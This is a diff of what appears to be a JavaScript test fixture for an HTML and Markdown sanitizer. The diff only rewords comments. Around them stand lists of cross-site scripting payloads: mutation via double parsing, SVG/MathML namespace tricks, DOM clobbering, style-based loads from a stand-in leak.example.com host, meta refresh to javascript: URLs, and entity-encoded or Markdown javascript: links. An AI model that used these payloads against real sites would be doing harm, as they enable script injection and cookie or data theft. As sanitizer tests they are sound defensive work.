@@ -1,15 +1,15 @@
 /*
- * More ways to get a script to run, to load something or to take an app's place, in the families that those who break
- * and mend sanitisers write about: what is parsed twice, what changes its namespace, what a drawing or formula may
- * hold, what takes the place of names, what styles can do, and what spellings get past who looks for words. All of
- * those that run call `pwned()`; what would be loaded is at `leak.example.com`.
+ * More ways to run a script, load something or imitate the app, by the families that sanitizer
+ * authors describe: double parsing, namespace confusion, SVG and MathML content, DOM clobbering,
+ * styles, and spellings that evade word filters. All that run call `pwned()`; all that load use
+ * `leak.example.com`.
  */
 
 const code = 'pwned()';
 const image = `<img src=x onerror=${code}>`;
 const away = 'https://leak.example.com/a';
 
-/** What is another tree once it was written out and read again. */
+/** Markup that changes when serialized and parsed again. */
 const parsedTwice = [
   `<svg><style><a id="</style>${image}"></svg>`,
   `<svg><title><a title="</title>${image}"></svg>`,
@@ -90,7 +90,7 @@ const namespaces = [
   `<math><mstyle mathbackground="url(${away})"><mi>x</mi></mstyle></math>`,
 ];
 
-/** Names that take the place of what scripts look for. */
+/** Names that shadow what scripts look up (DOM clobbering). */
 const names = [
   `<form id="document"><input name="cookie"></form>`,
   `<form name="body"><input name="attributes"><input name="nodeName"><input name="parentNode"></form>`,
@@ -106,7 +106,7 @@ const names = [
   `<fieldset name="innerHTML"><button form="document" name="submit">x</button></fieldset>`,
 ];
 
-/** What a style may do or load. */
+/** Styles that hide or load something. */
 const styles = [
   `<style>*{background:url(${away})}</style>`,
   `<style>@import "${away}.css";</style>`,
@@ -130,7 +130,7 @@ const styles = [
   `<div hidden="until-found" onbeforematch="${code}">x</div>`,
 ];
 
-/** What loads, submits, or goes elsewhere. */
+/** Elements that load, submit or navigate. */
 const loads = [
   `<meta http-equiv="refresh" content="0;url=javascript:${code}">`,
   `<meta http-equiv="refresh" content="0;url=${away}">`,
@@ -169,7 +169,7 @@ const loads = [
   `<p accesskey="x" onauxclick="${code}" oncontextmenu="${code}" tabindex="0">x</p>`,
 ];
 
-/** Spellings that get past who looks for words. */
+/** Spellings that evade word filters. */
 const spellings = [
   `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${code}">x</a>`,
   `<a href="&#0000106&#0000097&#0000118&#0000097script:${code}">x</a>`,
@@ -209,7 +209,7 @@ const spellings = [
   `</p></div></main></body></html><script>${code}</script>`,
 ];
 
-/** What becomes of Markdown's own forms. */
+/** Markdown's own syntax. */
 const forms = [
   `[x](<javascript:${code}> "x")`,
   `[x](JAVASCRIPT:${code})\n[y](&#106;avascript:${code})\n[z](java\\script:${code})`,
